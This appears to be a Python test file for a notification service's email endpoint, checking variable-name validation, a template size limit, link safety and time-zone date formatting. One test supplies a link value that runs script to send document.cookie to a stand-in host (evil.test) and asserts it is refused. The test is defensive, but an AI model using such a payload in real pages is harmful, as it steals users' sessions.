"""What a send makes of the account's template: variables named as templates may use them,
limits and links held at send time, dates in the account's time zone."""

from shared.models.notification_delivery import NotificationDelivery
from tests.factories import create_account
from tests.notifications.conftest import configured_settings
from tests.notifications.factories import (
    LEAD,
    create_account_user,
    create_template,
    headers_for,
)


async def test_a_template_variable_with_an_unusable_name_is_refused(notifications):
    account = await create_account()
    colleague = await create_account_user(account)

    answer = await notifications.post(
        "/v1/notifications/email",
        json={"user_id": str(colleague.id), "event": "new_lead", "data": {**LEAD, "a.b": "x"}},
        headers=headers_for(account),
    )

    assert answer.status_code == 422


async def test_a_template_over_a_limit_with_this_data_fails_the_delivery_saying_why(
    notifications, fake_providers
):
    account = await create_account()
    colleague = await create_account_user(account)
    await create_template(account, text="{{ first_name * times }}", html="")

    answer = await notifications.post(
        "/v1/notifications/email",
        json={
            "user_id": str(colleague.id),
            "event": "newsletter",
            "data": {"first_name": "Ada", "times": 10**9},
        },
        headers=headers_for(account),
    )

    assert answer.status_code == 202, answer.text
    assert answer.json()["status"] == "failed"
    assert answer.json()["reason"] == (
        "The template's text is over a limit: a repetition (*) makes 3,000,000,000 characters "
        "or items; a template makes at most 200,000."
    )
    assert fake_providers.requests["sendgrid"] == []


async def test_a_link_that_is_not_http_is_refused_and_nothing_is_stored(
    notifications, fake_providers
):
    account = await create_account()
    colleague = await create_account_user(account)

    answer = await notifications.post(
        "/v1/notifications/email",
        json={
            "user_id": str(colleague.id),
            "event": "new_lead",
            "data": {**LEAD, "lead_url": "javascript:fetch('//evil.test?'+document.cookie)"},
        },
        headers=headers_for(account),
    )

    assert answer.status_code == 422
    assert answer.json()["error"]["code"] == "unsafe_link"
    assert answer.json()["error"]["details"][0]["field"] == "body.data.lead_url"
    assert await NotificationDelivery.find({"account_id": account.id}).count() == 0
    assert fake_providers.requests == {}


async def test_dates_in_an_email_are_in_the_accounts_time_zone(notifications, fake_providers):
    account = await create_account(locale={"time_zone": "Asia/Tokyo"})
    colleague = await create_account_user(account)
    task = {
        "assigner_name": "Ada",
        "task_title": "Call Grace",
        "due_date": "2026-12-01T23:30:00Z",
        "task_url": "https://x.test/t/1",
    }

    answer = await notifications.post(
        "/v1/notifications/email",
        json={"user_id": str(colleague.id), "event": "task_assigned", "data": task},
        headers=headers_for(account),
    )

    assert answer.status_code == 202, answer.text
    assert "(due 2 December 2026)" in answer.json()["text"]


async def test_dates_follow_the_platform_default_when_the_account_sets_none(
    start_notifications,
):
    account = await create_account()
    colleague = await create_account_user(account)
    task = {
        "assigner_name": "Ada",
        "task_title": "Call Grace",
        "due_date": "2026-12-01T23:30:00Z",
        "task_url": "https://x.test/t/1",
    }

    async with start_notifications(configured_settings(default_time_zone="Asia/Tokyo")) as client:
        answer = await client.post(
            "/v1/notifications/email",
            json={"user_id": str(colleague.id), "event": "task_assigned", "data": task},
            headers=headers_for(account),
        )

    assert "(due 2 December 2026)" in answer.json()["text"]


async def test_a_template_failing_on_the_data_names_the_templates_field(notifications):
    account = await create_account()
    colleague = await create_account_user(account)
    await create_template(account, text="Hi {{ first_name.missing.part }}", html="")

    answer = await notifications.post(
        "/v1/notifications/email",
        json={"user_id": str(colleague.id), "event": "newsletter", "data": {"first_name": "Ada"}},
        headers=headers_for(account),
    )

    assert answer.status_code == 422
    assert answer.json()["error"]["code"] == "template_not_renderable"
    assert answer.json()["error"]["details"][0]["field"] == "template.text"
    assert await NotificationDelivery.find({"account_id": account.id}).count() == 0
